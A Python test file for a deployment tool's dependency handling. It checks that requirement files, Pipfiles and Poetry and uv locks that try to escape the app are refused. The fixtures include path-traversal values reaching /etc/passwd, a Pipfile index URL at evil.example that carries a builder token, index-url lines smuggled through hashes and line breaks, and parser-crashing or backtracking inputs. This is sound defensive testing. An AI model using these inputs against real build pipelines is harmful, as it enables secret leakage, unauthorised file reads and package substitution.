"""Hostile dependency files: the dependencies layer's key covers every file resolution
reads, nothing outside the app is ever read or installed, every file is bounded, and
where packages come from is the app's visible choice, never a public package of the
same name (dependency confusion) — for requirement files, Pipfiles, Poetry and uv."""

from __future__ import annotations

import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from shipway import deploy, project
from shipway.cli import main
from shipway.detect.plan import BuildPlan, Dependencies
from shipway.errors import SpecError
from shipway.image import deps, docker_builder, dockerfile, installer, lockfiles, poetry, reqfiles
from shipway.image.progress import Silent
from shipway.image.reference import parse as parse_reference
from shipway.image.target import Target
from tests.helpers.appdir import make_app

pytestmark = pytest.mark.unit

TARGET = Target("3.12", "x86_64-manylinux_2_28")
CANARY = "CANARY-deps-3b1f"
BASE = parse_reference("127.0.0.1:5000/base/python:3.12", "--base-image")
SIX = "sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254"


def plan(kind: str = "requirements", file: str = "requirements.txt") -> BuildPlan:
    return BuildPlan(
        python_version="3.12", python_version_source="test", base_image="python:3.12-slim",
        dependencies=Dependencies(kind=kind, file=file), processes={}, port=8000,
    )  # fmt: skip


def key(app: Path, kind: str = "requirements", context: Path | None = None) -> str:
    file = {"requirements": "requirements.txt", "pipfile": "Pipfile"}.get(kind, "pyproject.toml")
    return deps._Work.read(app, plan(kind, file), TARGET, context).key()


def select(app: Path, kind: str, file: str) -> reqfiles.Requirements:
    return lockfiles.select(app.resolve(), Dependencies(kind=kind, file=file), TARGET, False)


def refused(call: object, *args: object) -> str:
    """The one-line message of the SpecError ``call(*args)`` raises."""
    with pytest.raises(SpecError) as caught:
        call(*args)  # type: ignore[operator]
    message = str(caught.value)
    assert "\n" not in message and CANARY not in message
    return message


# -- (b) the cache key covers every file resolution reads ------------------------------


KEYED = {
    "requirements.txt": "-r requirements/prod.txt\n-e ./libs/util\n./vendor/tiny-1.0-py3-none-any.whl\n",
    "requirements/prod.txt": "-r base.txt\n-c ../constraints/pins.txt\n",
    "requirements/base.txt": "six\n",
    "constraints/pins.txt": "six==1.16.0\n",
    "vendor/tiny-1.0-py3-none-any.whl": "wheel v1",
    "libs/util/pyproject.toml": "[project]\nname = 'util'\nversion = '1'\n[build-system]\n",
    "libs/util/util.py": "code v1",
    "app.py": "code v1",
}  # fmt: skip


@pytest.mark.parametrize(
    ("changed", "rebuilds"),
    [
        ("requirements/base.txt", True),  # included two deep
        ("constraints/pins.txt", True),  # a constraint file, included from an include
        ("vendor/tiny-1.0-py3-none-any.whl", True),  # a local wheel
        ("libs/util/pyproject.toml", True),  # a local project's metadata
        ("libs/util/util.py", False),  # its code stays in the app layer
        ("app.py", False),
    ],
)
def test_the_key_covers_every_file_resolution_reads(
    tmp_path: Path, changed: str, rebuilds: bool
) -> None:
    app = make_app(tmp_path, KEYED)
    before = key(app)
    (app / changed).write_text(KEYED[changed] + "\n# changed\n")
    assert (key(app) != before) is rebuilds


@pytest.mark.parametrize(
    ("files", "changed"),
    [
        # setup.py reading its requirements from a file: that file is metadata input.
        (
            {
                "setup.py": "from setuptools import setup\n"
                "setup(name='a', install_requires=open('requirements.in').read().split())\n",
                "requirements.in": "six\n",
            },
            "requirements.in",
        ),
        # hatch's requirements_txt hook reads the files it names.
        (
            {
                "pyproject.toml": "[project]\nname = 'a'\nversion = '1'\ndynamic = ['dependencies']\n"
                "[build-system]\nrequires = ['hatchling', 'hatch-requirements-txt']\n"
                "[tool.hatch.metadata.hooks.requirements_txt]\nfiles = ['deps/main.txt']\n",
                "deps/main.txt": "six\n",
            },
            "deps/main.txt",
        ),
    ],
)
def test_the_key_covers_files_a_projects_metadata_is_read_from(
    tmp_path: Path, files: dict[str, str], changed: str
) -> None:
    app = make_app(tmp_path, {**files, "requirements.txt": "-e .\n"})
    before = key(app)
    (app / changed).write_text("six\nidna\n")
    assert key(app) != before


def test_the_key_covers_a_find_links_directory(tmp_path: Path) -> None:
    app = make_app(
        tmp_path,
        {"requirements.txt": "--no-index\n--find-links wheels\nsix\n", "wheels/six-1.0-py3-none-any.whl": "a"},
    )  # fmt: skip
    before = key(app)
    (app / "wheels" / "six-2.0-py3-none-any.whl").write_text("b")
    assert key(app) != before


# -- (c) nothing outside the build context, every file bounded -------------------------


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("../../pkg-1.0-py3-none-any.whl", "requirements.txt:2: ../../pkg-1.0-py3-none-any.whl is outside the app directory"),
        ("file:///etc/passwd", "requirements.txt:2: /etc/passwd is outside the app directory"),
        ("pkg @ file:///etc/passwd", "requirements.txt:2: /etc/passwd is outside the app directory"),
        ("pkg @ file://localhost/../../etc/passwd", "requirements.txt:2: localhost/../../etc/passwd is outside"),
        ("/etc/hostname", "requirements.txt:2: /etc/hostname is outside the app directory"),
        ("-r ../../x.txt", "requirements.txt:2: ../../x.txt is outside the app directory"),
        ("-c ../canary.txt", "requirements.txt:2: ../canary.txt is outside the app directory"),
        ("-r link-out.txt", "requirements.txt:2: link-out.txt is outside the app directory"),
        ("./link-out.txt", "requirements.txt:2: ./link-out.txt is outside the app directory"),
        ("-e /tmp", "requirements.txt:2: /tmp is outside the app directory"),
        ("-e file:///tmp", "requirements.txt:2: /tmp is outside the app directory"),
        ("--find-links=../", "requirements.txt:2: ../ is outside the app directory"),
        # A VCS URL on the builder's disk would be cloned from wherever it is.
        ("git+file:///srv/repo#egg=x", "requirements.txt:2: 'git+file:///srv/repo#egg=x' is not an http(s), git or ssh URL"),
        ("x @ git+file:///srv/repo", "requirements.txt:2: 'git+file:///srv/repo' is not an http(s), git or ssh URL"),
        ("x @ hg+file:///srv/repo", "requirements.txt:2: 'hg+file:///srv/repo' is not an http(s), git or ssh URL"),
        ("x @ ftp://host/x-1.0.tar.gz", "requirements.txt:2: 'ftp://host/x-1.0.tar.gz' is not an http(s), git or ssh URL"),
        ("-e git+file:///srv/repo#egg=x", "requirements.txt:2: -e: only a directory of the app can be editable"),
        ("-i file:///srv/index", "requirements.txt:2: -i: must be an http(s) URL"),
        ("--extra-index-url=/srv/index", "requirements.txt:2: --extra-index-url: must be an http(s) URL"),
        ("--index-url https://${TOKEN}@example.org/simple", "requirements.txt:2: environment variables"),
        ("-r https://user:pw@example.org/r.txt", "requirements.txt:2: https://***@example.org/r.txt is a URL"),
    ],
)  # fmt: skip
def test_requirements_reaching_outside_the_app_are_refused(
    tmp_path: Path, line: str, message: str
) -> None:
    (tmp_path / "canary.txt").write_text(f"{CANARY}\n")
    app = make_app(tmp_path, {"requirements.txt": f"six\n{line}\n"})
    (app / "link-out.txt").symlink_to(tmp_path / "canary.txt")
    assert refused(reqfiles.read, app, "requirements.txt").startswith(message)
    assert "pw" not in message


def test_an_app_in_a_repository_reads_the_repositorys_files_only(tmp_path: Path) -> None:
    repo = make_app(
        tmp_path,
        {"common.txt": "six\n", "services/api/requirements.txt": "-r ../../common.txt\n",
         "services/api/escape.txt": "-r ../../../canary.txt\n"},
        "repo",
    )  # fmt: skip
    (tmp_path / "canary.txt").write_text(f"{CANARY}\n")
    api = repo / "services" / "api"
    assert key(api, context=repo) != ""  # the repository's file is read, and keyed
    (repo / "common.txt").write_text("six\nidna\n")
    message = refused(reqfiles.read, api, "escape.txt", repo)
    assert message.startswith("escape.txt:1: ../../../canary.txt is outside the app directory")


def test_an_include_cycle_is_read_once(tmp_path: Path) -> None:
    app = make_app(
        tmp_path,
        {"requirements.txt": "-r a.txt\n", "a.txt": "-r b.txt\nsix\n", "b.txt": "-r a.txt\nidna\n"},
    )  # fmt: skip
    req = reqfiles.read(app, "requirements.txt")
    assert req.files == ["requirements.txt", "a.txt", "b.txt"]
    assert req.render(app) == "idna\nsix\n"


@pytest.mark.parametrize(
    ("files", "message"),
    [
        (
            {
                "r0.txt": "".join(f"-r r{i}.txt\n" for i in range(1, 70)),
                **{f"r{i}.txt": "six\n" for i in range(1, 70)},
            },
            f"r63.txt: more than {reqfiles.MAX_FILES} files are included",
        ),
        # requirements.txt's own line is the first of them
        ({"r0.txt": "six\n" * 50_000}, f"r0.txt:50000: more than {reqfiles.MAX_LINES} lines"),
        ({"r0.txt": "#" * (4 * 1024 * 1024 + 1)}, "r0.txt: is larger than 4096 KiB"),
        (
            {
                "r0.txt": "".join(f"-r big{i}.txt\n" for i in range(5)),
                **{f"big{i}.txt": "#" * (4 * 1024 * 1024 - 10) for i in range(5)},
            },
            "big3.txt: the included files exceed 16 MiB together",
        ),
    ],
)
def test_requirement_files_are_bounded(tmp_path: Path, files: dict[str, str], message: str) -> None:
    app = make_app(tmp_path, files)
    (app / "requirements.txt").write_text("-r r0.txt\n")
    assert refused(reqfiles.read, app, "requirements.txt").startswith(message)


def test_includes_are_bounded_in_depth(tmp_path: Path) -> None:
    app = make_app(tmp_path, {f"r{i}.txt": f"-r r{i + 1}.txt\n" for i in range(10)})
    (app / "requirements.txt").write_text("-r r0.txt\n")
    assert refused(reqfiles.read, app, "requirements.txt").startswith(
        f"r7.txt:1: includes nest deeper than {reqfiles.MAX_DEPTH}"
    )


@pytest.mark.parametrize(
    "line",
    [
        "six" + " " * 3_000_000 + "x",  # pip's comment pattern backtracks on these
        "./" + "[" * 3_000_000 + "]",  # and a lazy extras pattern on these
        "six" + " -" * 1_500_000,
    ],
)
def test_a_line_built_to_backtrack_is_read_in_linear_time(tmp_path: Path, line: str) -> None:
    app = make_app(tmp_path, {"requirements.txt": line + "\n"})
    started = time.monotonic()
    try:
        reqfiles.read(app, "requirements.txt")
    except SpecError as exc:
        assert "\n" not in str(exc)
    assert time.monotonic() - started < 5


# -- (d) indexes are the app's visible choice, looked up in order --------------------


def test_indexes_are_listed_in_lookup_order_with_credentials_hidden(tmp_path: Path) -> None:
    app = make_app(
        tmp_path,
        {"requirements.txt": "-r base.txt\n--index-url https://mirror.example/simple\nsix\n",
         "base.txt": "--extra-index-url https://bot:s3cret-token@private.example/simple\n"},
    )  # fmt: skip
    assert deps.package_indexes(app, plan()) == [
        "https://***@private.example/simple (--extra-index-url, base.txt:1)",
        "https://mirror.example/simple (--index-url, requirements.txt:2)",
    ]


def test_without_index_lines_nothing_is_listed(tmp_path: Path) -> None:
    app = make_app(tmp_path, {"requirements.txt": "six\n"})
    assert deps.package_indexes(app, plan()) == []


def test_a_public_index_after_an_extra_one_is_shown(tmp_path: Path) -> None:
    app = make_app(
        tmp_path, {"requirements.txt": "--extra-index-url https://private.example/simple\n"}
    )
    assert deps.package_indexes(app, plan())[1] == "https://pypi.org/simple (the default index)"


def test_find_links_without_no_index_is_refused(tmp_path: Path) -> None:
    # uv merges the candidates: a public "mylib" 99.0 would replace the app's own wheel.
    app = make_app(
        tmp_path,
        {"requirements.txt": "-f wheels\nmylib\n", "wheels/mylib-1.0-py3-none-any.whl": ""},
    )
    assert refused(reqfiles.read, app, "requirements.txt").startswith(
        "requirements.txt:1: --find-links: uv merges these files with the package index"
    )
    (app / "requirements.txt").write_text("--no-index\n-f wheels\nmylib\n")
    assert deps.package_indexes(app, plan()) == [
        "no package index (--no-index, requirements.txt:1)",
        "wheels (--find-links, requirements.txt:2)",
    ]


def test_uv_always_takes_a_package_from_the_first_index_that_has_it() -> None:
    command = installer.base_command(TARGET, Path("/out"))
    assert command[command.index("--index-strategy") + 1] == "first-index"


def test_a_uv_config_planted_above_the_build_directory_is_never_read(tmp_path: Path) -> None:
    """A uv.toml in /tmp (any user can write there) would choose every build's index."""
    (tmp_path / "uv.toml").write_text("index-url = [this is not even TOML\n")
    scratch = tmp_path / "shipway-deps-x"
    scratch.mkdir()
    wheels = _wheel(tmp_path / "wheels", "six", "1.0")
    done = installer.run(
        [installer.uv(), "pip", "install", "--dry-run", "--no-index", "--find-links",
         str(wheels), "--target", str(tmp_path / "t"), "--python", sys.executable, "six"],
        scratch,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "six==1.0" in done.stderr + done.stdout


def test_uv_messages_are_shown_without_credentials() -> None:
    stderr = "error: Failed to fetch: `https://bot:s3cret@private.example/simple/six/`\n"
    assert str(installer.failed("requirements.txt", stderr)) == (
        "requirements.txt: installing the dependencies failed: "
        "error: Failed to fetch: `https://***@private.example/simple/six/`"
    )


def test_shipway_build_prints_the_apps_indexes_before_anything_else(tmp_path: Path) -> None:
    app = make_app(
        tmp_path,
        {"Procfile": "web: python app.py\n", "app.py": "",
         "requirements.txt": "--extra-index-url https://bot:s3cret@private.example/simple\nsix\n"},
    )  # fmt: skip
    result = subprocess.run(
        [sys.executable, "-m", "shipway", "build", str(app), "--output", f"oci:{tmp_path / 'o'}",
         "--base-image", "127.0.0.1:9/none:1"],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert result.stdout.splitlines()[:3] == [
        "package indexes (a package comes from the first that has it):",
        "  1. https://***@private.example/simple (--extra-index-url, requirements.txt:1)",
        "  2. https://pypi.org/simple (the default index)",
    ]
    assert "s3cret" not in result.stdout + result.stderr
    assert result.returncode == 1 and "127.0.0.1:9" in result.stderr  # the base image


def test_the_docker_builder_installs_extra_indexes_with_uvs_rule(tmp_path: Path) -> None:
    app = make_app(
        tmp_path,
        {"requirements.txt": "-r reqs/base.txt\n", "reqs/base.txt": "--extra-index-url https://private.example/simple\nsix\n"},
    )  # fmt: skip
    text = dockerfile.dockerfile(plan(), requirements=reqfiles.read(app, "requirements.txt"))
    assert "COPY requirements.txt ./\nCOPY reqs/base.txt reqs/base.txt\n" in text
    assert (
        "RUN pip install uv && uv pip install --system --index-strategy first-index "
        "-r requirements.txt && pip uninstall -y uv"
    ) in text


# -- (e) locks and project files: sources honoured or refused --------------------------


def test_pipfile_sources_become_indexes_and_a_package_keeps_its_own(tmp_path: Path) -> None:
    pipfile = (
        '[[source]]\nname = "pypi"\nurl = "https://pypi.org/simple"\n'
        '[[source]]\nname = "private"\nurl = "https://private.example/simple"\n'
        '[packages]\nmylib = {version = "*", index = "private"}\nsix = "*"\n'
        'util = {path = "libs/util"}\n'
    )
    app = make_app(tmp_path, {"Pipfile": pipfile, "libs/util/pyproject.toml": ""})
    req = select(app, "pipfile", "Pipfile")
    assert req.render(app).splitlines() == [
        "--extra-index-url https://private.example/simple", "mylib", "six",
    ]  # fmt: skip
    assert req.projects == ["libs/util"]  # a path, never the package "libs/util" of an index
    assert req.lookup_order()[0].startswith("https://private.example/simple (--extra-index-url")


def test_pipfile_lock_keeps_sources_and_hashes(tmp_path: Path) -> None:
    lock = (
        '{"_meta": {"sources": [{"name": "pypi", "url": "https://pypi.org/simple"},'
        ' {"name": "private", "url": "https://private.example/simple"}]},'
        ' "default": {"mylib": {"version": "==1.0", "index": "private", "hashes": ["' + SIX + '"]},'
        ' "lib": {"git": "https://example.org/lib.git", "ref": "abc123"}}}'
    )
    app = make_app(tmp_path, {"Pipfile": "", "Pipfile.lock": lock})
    assert select(app, "pipfile", "Pipfile").render(app).splitlines() == [
        "--extra-index-url https://private.example/simple",
        "lib @ git+https://example.org/lib.git@abc123", f"mylib==1.0 --hash={SIX}",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "default", ["https://pypi.org/simple/", "https://pypi.python.org/simple", "${PIP_INDEX_URL}"]
)
def test_a_pipfile_naming_the_default_index_uses_the_builders(tmp_path: Path, default: str) -> None:
    """PyPI by any of its names, or pip's own setting, means the index the builder is
    configured with (a mirror here), never an index line of its own."""
    pipfile = f'[[source]]\nname = "pypi"\nurl = "{default}"\n[packages]\nsix = "*"\n'
    app = make_app(tmp_path, {"Pipfile": pipfile})
    assert select(app, "pipfile", "Pipfile").render(app).splitlines() == ["six"]


def test_no_other_variable_of_the_builder_is_expanded_into_an_index(tmp_path: Path) -> None:
    pipfile = (
        '[[source]]\nname = "pypi"\nurl = "https://pypi.org/simple"\n'
        '[[source]]\nname = "leak"\nurl = "https://evil.example/${SHIPWAY_TOKEN}/simple"\n'
        '[packages]\nmylib = {version = "*", index = "leak"}\n'
    )
    app = make_app(tmp_path, {"Pipfile": pipfile})
    with pytest.raises(SpecError, match=r"^Pipfile: source leak: environment variables"):
        select(app, "pipfile", "Pipfile")


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ('{"version": "==1.0", "index": "nowhere"}', "Pipfile.lock: mylib.index: names no source of the Pipfile.lock"),
        ('{"version": "==1.0", "hashes": ["x --index-url https://evil.example"]}', "Pipfile.lock: default.mylib: 'x --index-url"),
        ('{"version": "==1.0\\n--index-url https://evil.example"}', "Pipfile.lock: default.mylib: a value holds a line break"),
        ('{"git": "file:///srv/repo"}', "Pipfile.lock: default.mylib: 'git+file:///srv/repo' is not an http(s), git or ssh URL"),
        ('{"path": "../../outside"}', "Pipfile.lock: default.mylib: ../../outside is outside the app directory"),
        ('{"file": "file:///etc/passwd"}', "Pipfile.lock: default.mylib: /etc/passwd is outside the app directory"),
    ],
)  # fmt: skip
def test_pipfile_lock_entries_that_cannot_be_honoured_are_refused(
    tmp_path: Path, entry: str, message: str
) -> None:
    lock = '{"_meta": {"sources": []}, "default": {"mylib": ' + entry + "}}"
    app = make_app(tmp_path, {"Pipfile": "", "Pipfile.lock": lock})
    assert refused(select, app, "pipfile", "Pipfile").startswith(message)


POETRY_LOCK = f"""
[[package]]
name = "mylib"
version = "1.0"
optional = false
python-versions = "*"
files = [{{file = "mylib-1.0-py3-none-any.whl", hash = "{SIX}"}}]
[package.source]
type = "legacy"
url = "https://private.example/simple"
reference = "private"
"""


def test_poetry_lock_keeps_a_packages_index_and_hashes(tmp_path: Path) -> None:
    pyproject = '[tool.poetry.dependencies]\nmylib = {version = "^1", source = "private"}\n'
    app = make_app(tmp_path, {"pyproject.toml": pyproject, "poetry.lock": POETRY_LOCK})
    req = poetry.locked(app.resolve(), TARGET)
    assert req.render(app).splitlines() == [
        "--extra-index-url https://private.example/simple", f"mylib==1.0 --hash={SIX}",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ('type = "pypi-mirror"\nurl = "https://x"', "poetry.lock: package.mylib.source.type: 'pypi-mirror' is not a source"),
        ('type = "legacy"\nurl = "file:///srv/index"', "poetry.lock: package.mylib: --extra-index-url: must be an http(s) URL"),
        ('type = "url"\nurl = "file:///etc/passwd"', "poetry.lock: package.mylib: /etc/passwd is outside the app directory"),
        ('type = "git"\nurl = "file:///srv/repo"', "poetry.lock: package.mylib: 'git+file:///srv/repo' is not an http(s)"),
        ('type = "directory"\nurl = "../../x"', "poetry.lock: package.mylib: ../../x is outside the app directory"),
    ],
)  # fmt: skip
def test_poetry_lock_sources_that_cannot_be_honoured_are_refused(
    tmp_path: Path, source: str, message: str
) -> None:
    lock = POETRY_LOCK.split("[package.source]", maxsplit=1)[0] + f"[package.source]\n{source}\n"
    app = make_app(
        tmp_path,
        {"pyproject.toml": '[tool.poetry.dependencies]\nmylib = "^1"\n', "poetry.lock": lock},
    )
    assert refused(poetry.locked, app.resolve(), TARGET).startswith(message)


@pytest.mark.parametrize(
    ("pyproject", "message"),
    [
        ('[tool.poetry.dependencies]\nmylib = {version = "^1", source = "private"}\n',
         "pyproject.toml: tool.poetry.dependencies.mylib.source: says where packages come from, which only a lock records"),
        ('[[tool.poetry.source]]\nname = "private"\nurl = "https://private.example/simple"\n'
         '[tool.poetry.dependencies]\nsix = "^1"\n', "pyproject.toml: tool.poetry.source: says where"),
        ('[project]\nname = "a"\ndependencies = ["mylib"]\n[tool.uv.sources]\nmylib = {index = "private"}\n',
         "pyproject.toml: tool.uv.sources.mylib: says where packages come from"),
        ('[project]\nname = "a"\ndependencies = ["six"]\n[[tool.uv.index]]\nurl = "https://private.example/simple"\n',
         "pyproject.toml: tool.uv.index: says where packages come from"),
        ('[tool.poetry.dependencies]\nmylib = {url = "file:///etc/passwd"}\n',
         "pyproject.toml: tool.poetry.dependencies.mylib: /etc/passwd is outside the app directory"),
        ('[tool.poetry.dependencies]\nmylib = {git = "file:///srv/repo"}\n',
         "pyproject.toml: tool.poetry.dependencies.mylib: 'git+file:///srv/repo' is not"),
        ('[project]\nname = "a"\ndependencies = ["mylib @ file:///etc/passwd"]\n',
         "pyproject.toml: /etc/passwd is outside the app directory"),
    ],
)  # fmt: skip
def test_project_files_without_a_lock_never_lose_a_packages_source(
    tmp_path: Path, pyproject: str, message: str
) -> None:
    app = make_app(tmp_path, {"pyproject.toml": pyproject})
    assert refused(select, app, "pyproject", "pyproject.toml").startswith(message)


def test_a_packages_uv_sources_need_its_lock_unless_the_requirements_decide(tmp_path: Path) -> None:
    pyproject = (
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["mylib"]\n[build-system]\n'
        '[tool.uv.sources]\nmylib = {git = "https://example.org/mylib.git"}\n'
    )
    app = make_app(tmp_path, {"pyproject.toml": pyproject, "requirements.txt": "-e .\n"})
    assert refused(key, app).startswith("pyproject.toml: tool.uv.sources.mylib: says where")
    (app / "requirements.txt").write_text("-e .\nmylib @ git+https://example.org/mylib.git\n")
    assert key(app)


def test_uv_lock_keeps_its_registries_and_hashes(tmp_path: Path) -> None:
    pyproject = '[project]\nname = "demo"\nversion = "0.1.0"\ndependencies = ["mylib"]\n'
    lock = (
        'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n'
        '[[package]]\nname = "demo"\nversion = "0.1.0"\nsource = { virtual = "." }\n'
        'dependencies = [{ name = "mylib" }]\n\n'
        '[[package]]\nname = "mylib"\nversion = "1.0"\n'
        'source = { registry = "https://private.example/simple" }\n'
        f'wheels = [{{ url = "https://private.example/f/mylib-1.0-py3-none-any.whl", hash = "{SIX}" }}]\n'
    )
    app = make_app(tmp_path, {"pyproject.toml": pyproject, "uv.lock": lock})
    lines = [
        " ".join(line.split())
        for line in select(app, "pyproject", "pyproject.toml").render(app).splitlines()
    ]
    assert lines == ["mylib==1.0 --hash=" + SIX, "--extra-index-url https://private.example/simple"]


def _wheel(directory: Path, name: str, version: str) -> Path:
    """A minimal wheel of ``name`` (no code), in ``directory``."""
    directory.mkdir(parents=True, exist_ok=True)
    info = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(directory / f"{name}-{version}-py3-none-any.whl", "w") as wheel:
        wheel.writestr(
            f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        )
        wheel.writestr(
            f"{info}/WHEEL",
            "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        wheel.writestr(f"{info}/RECORD", "")
    return directory


@pytest.mark.parametrize(
    ("files", "kind", "file", "message"),
    [
        ({"pyproject.toml": '[tool.poetry.dependencies]\nsix = "^1"\n',
          "poetry.lock": "a = " + "[" * 5000 + "]" * 5000 + "\n"},
         "pyproject", "pyproject.toml", "poetry.lock: is nested too deeply"),
        ({"Pipfile": "", "Pipfile.lock": '{"default": {"six": {"version": ' + "9" * 5000 + "}}}"},
         "pipfile", "Pipfile", "Pipfile.lock: holds a number too long"),
        ({"Pipfile": "", "Pipfile.lock": "[" * 100_000 + "]" * 100_000},
         "pipfile", "Pipfile", "Pipfile.lock: is nested too deeply"),
    ],
)  # fmt: skip
def test_a_lock_built_to_crash_the_parser_is_a_one_line_error(
    tmp_path: Path, files: dict[str, str], kind: str, file: str, message: str
) -> None:
    app = make_app(tmp_path, files)
    assert refused(select, app, kind, file).startswith(message)


def test_the_docker_builders_context_holds_what_the_requirements_read(tmp_path: Path) -> None:
    repo = make_app(
        tmp_path,
        {".git/HEAD": "", "common.txt": "six\n",
         "api/Procfile": "web: python app.py\n", "api/app.py": "",
         "api/requirements.txt": "-r reqs/base.txt\n", "api/reqs/base.txt": "six\n"},
        "repo",
    )  # fmt: skip
    app = repo / "api"
    context = tmp_path / "context"
    docker_builder.prepare_context(project.load(app), BASE, None, context)
    text = (context / docker_builder.DOCKERFILE).read_text()
    assert "COPY app/reqs/base.txt reqs/base.txt\n" in text
    assert (context / "app" / "reqs" / "base.txt").read_text() == "six\n"
    (app / "requirements.txt").write_text("-r ../common.txt\n")  # the repository's file
    message = refused(
        docker_builder.prepare_context, project.load(app), BASE, None, tmp_path / "c2"
    )
    assert message.startswith("requirements.txt: includes ../common.txt, outside the app")


def test_render_writes_the_dockerfile_with_the_same_index_rule(tmp_path: Path) -> None:
    """``shipway render``'s Dockerfile reads requirements as the builders do: an extra
    index is looked up first (uv's rule), never merged with PyPI by pip."""
    reqs = "--extra-index-url https://private.example/simple\nmylib\n"
    app = make_app(tmp_path, {"requirements.txt": reqs, "app.py": ""})
    out = tmp_path / "out"
    result = CliRunner().invoke(main.app, ["render", str(app), "--out", str(out)])
    assert result.exit_code == 0, result.output
    text = (out / "Dockerfile").read_text()
    assert "uv pip install --system --index-strategy first-index -r requirements.txt" in text
    assert "RUN pip install -r requirements.txt" not in text


def test_an_app_given_by_a_relative_path_or_a_link_reads_its_own_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Containment compares resolved paths on both sides: the app's own pyproject.toml is
    inside the app however the app directory is named on the command line."""
    project = "[project]\nname = 'demo'\nversion = '1'\ndependencies = ['six']\n"
    files = {"pyproject.toml": project, "demo.py": "", "Procfile": "web: python demo.py\n"}
    make_app(tmp_path, files, name="a")
    (tmp_path / "via-link").symlink_to("a")
    monkeypatch.chdir(tmp_path)
    for number, given in enumerate(("a", "via-link", str(tmp_path / "via-link"))):
        out = f"out{number}"
        result = CliRunner().invoke(main.app, ["render", given, "--out", out])
        assert result.exit_code == 0, result.output
        assert "-r pyproject.toml" in (tmp_path / out / "Dockerfile").read_text()


def test_deploy_shows_the_apps_indexes_before_building(tmp_path: Path) -> None:
    reqs = "--extra-index-url https://user:pw@private.example/simple\nmylib\n"
    app = make_app(tmp_path, {"requirements.txt": reqs, "app.py": ""})
    steps: list[str] = []

    class Recorder(Silent):
        def step(self, text: str) -> None:
            steps.append(text)

    deploy._show_indexes(project.load(app), Recorder())
    assert len(steps) == 1 and "private.example/simple" in steps[0]
    assert "pw" not in steps[0] and "first that has a package wins" in steps[0]
